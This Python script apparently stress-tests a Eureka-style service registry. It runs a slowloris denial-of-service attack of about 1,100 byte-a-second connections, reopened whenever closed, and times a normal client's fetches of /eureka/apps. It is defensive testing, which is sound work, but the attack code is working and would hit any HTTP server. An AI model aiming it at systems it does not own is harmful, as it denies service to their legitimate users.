"""Slow-connection scenario: SLOW connections send a request head a byte a second
(slowloris), and are reopened as soon as the registry closes them, while one well-behaved
client fetches the full registry (JSON + gzip) on a fresh connection every 100 ms. Prints
how many fetches were answered, their latency, and how many slow connections the registry
closed. Run the registry under the open-file limit to test (`ulimit -n 1024`).

usage: slow.py HOST:PORT [SLOW [SECONDS]]
"""
import http.client
import socket
import statistics
import sys
import threading
import time

HEAD = (b"GET /eureka/apps HTTP/1.1\r\nHost: localhost\r\nAccept: application/json\r\n"
        b"X-Padding: " + b"a" * 200 + b"\r\n\r\n")


def slowloris(host, port, count, stop, stats):
    """Keeps `count` connections dribbling a byte a second, reopening closed ones."""
    conns = {}

    def open_one(i):
        try:
            s = socket.create_connection((host, port), timeout=5)
            s.setblocking(False)
            s.send(HEAD[:1])
            conns[i] = [s, 1]
        except OSError:
            conns.pop(i, None)
            stats["refused"] += 1

    for i in range(count):
        open_one(i)
    stats["opened"] = len(conns)
    while not stop.is_set():
        time.sleep(1)
        for i in range(count):
            entry = conns.get(i)
            if entry is None:
                open_one(i)
                continue
            s, sent = entry
            try:
                data = s.recv(4096)
                closed = True  # an answer or end of file: the registry let go of it
                del data
            except BlockingIOError:
                closed = False
            except OSError:
                closed = True
            if not closed:
                try:
                    s.send(HEAD[sent % len(HEAD):sent % len(HEAD) + 1])
                    entry[1] = sent + 1
                except BlockingIOError:
                    pass
                except OSError:
                    closed = True
            if closed:
                stats["closed"] += 1
                s.close()
                open_one(i)
        stats["open"] = len(conns)
    for s, _ in conns.values():
        s.close()


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    port = int(port)
    slow = int(sys.argv[2]) if len(sys.argv) > 2 else 1100
    secs = float(sys.argv[3]) if len(sys.argv) > 3 else 30
    stop = threading.Event()
    stats = {"opened": 0, "closed": 0, "refused": 0, "open": 0}
    attacker = threading.Thread(target=slowloris, args=(host, port, slow, stop, stats))
    attacker.start()
    time.sleep(2)  # let the slow connections pile up first
    latencies, failures = [], 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        start = time.perf_counter()
        try:
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/eureka/apps",
                         headers={"Accept": "application/json", "Accept-Encoding": "gzip"})
            reply = conn.getresponse()
            reply.read()
            conn.close()
            if reply.status == 200:
                latencies.append(time.perf_counter() - start)
            else:
                failures += 1
        except OSError:
            failures += 1
        time.sleep(0.1)
    stop.set()
    attacker.join()
    total = len(latencies) + failures
    if latencies:
        ms = sorted(x * 1000 for x in latencies)
        shown = (f"median {statistics.median(ms):.1f} ms, "
                 f"p99 {ms[min(len(ms) - 1, int(len(ms) * 0.99))]:.1f} ms")
    else:
        shown = "none answered"
    print(f"{slow} slow connections, {secs:.0f} s: {len(latencies)} of {total} full fetches "
          f"answered ({shown}); the registry closed {stats['closed']} slow connections "
          f"({stats['refused']} reconnects refused)")


main()
